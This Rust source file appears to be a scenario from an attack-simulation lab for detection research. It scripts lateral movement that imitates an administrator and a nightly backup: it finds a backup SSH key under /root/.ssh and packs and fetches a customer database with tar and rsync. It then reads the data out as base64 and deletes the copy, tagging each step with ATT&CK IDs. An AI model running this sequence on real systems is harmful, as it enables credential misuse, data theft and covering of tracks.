//! From an administrator's own laptop, whose owner does not know: by the administrator's account to one host, by the backup's key to
//! the next, and back as a backup would. Two hosts.
//!
//! Hard because: a variant of `lateral`; address, account and key are those of every day, and what is packed, fetched and read has
//! the commands, names and folders of the backup.

use crate::Lab;
use crate::life::remote::{self, OPTIONS, Thief};
use crate::life::{backup, host_tasks, mail};
use anyhow::{Result, ensure};
use std::time::Duration;

pub fn run(lab: &mut Lab) -> Result<()> {
    let (app, db) = (lab.host("app-3")?, lab.host("db-4")?);
    let (admin, outside) = (lab.outsider("admin")?, lab.outsider("outside")?);
    for host in [&app, &db] {
        remote::serve(host)?;
        host_tasks::start(lab, host)?;
    }
    mail::serve(&app)?;
    mail::deliver(lab, &outside, &app)?;
    remote::work(lab, &admin, &app, "deploy")?;
    backup::prepare(&app, &db)?;
    db.put("/srv/customers/customers.sql", &"INSERT INTO customers VALUES ('Somebody');\n".repeat(3000), 0o644)?;
    for _ in 0..2 {
        lab.wait(10..16);
        backup::once(lab, &app, &db, "/srv/customers")?;
        let hours = lab.number(8..20);
        lab.pause(Duration::from_secs(3600 * u64::from(hours)));
    }
    lab.wait(8..12);

    let attack = lab.attack("lateral movement that imitates an administrator")?;
    let thief = Thief { from: &admin, key: "/root/.ssh/app-3-deploy", account: "deploy", to: &app };
    let step = attack.step("a session like the administrator's", &["T1078.003", "T1083", "T1552.004"]);
    let look = *lab.pick(&["ls -la; df -h / | tail -1; uptime", "ps ax | head -20; ss -tn | wc -l"]);
    let said = thief.log_in(&format!("{} {look}; sudo -n ls -l /root/.ssh /srv/backup", step.mark(&app)?))?;
    ensure!(said.contains("backup"), "the key was not found: {said}");
    drop(step);
    lab.wait(4..9);

    // The backup itself has the days from 1 to 7.
    let (pack, ssh) = ("/var/backups/day-8.tgz", format!("ssh -i /root/.ssh/backup {OPTIONS}"));
    let step =
        attack.step("the database is packed as the backup does", &["T1021.004", "T1005", "T1560.001", "T1036.005"]);
    step.file(&db, pack);
    let inner = format!("{} tar -czf {pack} /srv/customers && sha256sum {pack}", step.mark(&db)?);
    let said =
        thief.log_in(&format!("{} sudo -n {ssh} root@{} {}", step.mark(&app)?, db.name, remote::quoted(&inner)))?;
    ensure!(said.contains("day-8"), "the database was not packed: {said}");
    drop(step);
    lab.wait(4..9);

    let copy = format!("/srv/backup/{}-packed/day-8.tgz", db.name);
    let step = attack.step("and fetched as the backup does", &["T1570", "T1074.001", "T1036.005"]);
    step.file(&app, &copy);
    let far = format!("{}rsync", step.mark(&db)?);
    let fetch = format!(
        "rsync -a -e {} --rsync-path={} root@{}:/var/backups/ /srv/backup/{}-packed/",
        remote::quoted(&ssh),
        remote::quoted(&far),
        db.name,
        db.name
    );
    thief.log_in(&format!("{} sudo -n {fetch}; ls -l {copy}", step.mark(&app)?))?;
    drop(step);
    lab.wait(4..9);

    let step = attack.step("and read away", &["T1041", "T1070.004"]);
    let said = thief.log_in(&format!("{} sudo -n cat {copy} | base64 -w 0; sudo -n rm {copy}", step.mark(&app)?))?;
    ensure!(said.len() > 300, "it was not read");
    drop(step);
    lab.wait(8..14);
    Ok(())
}
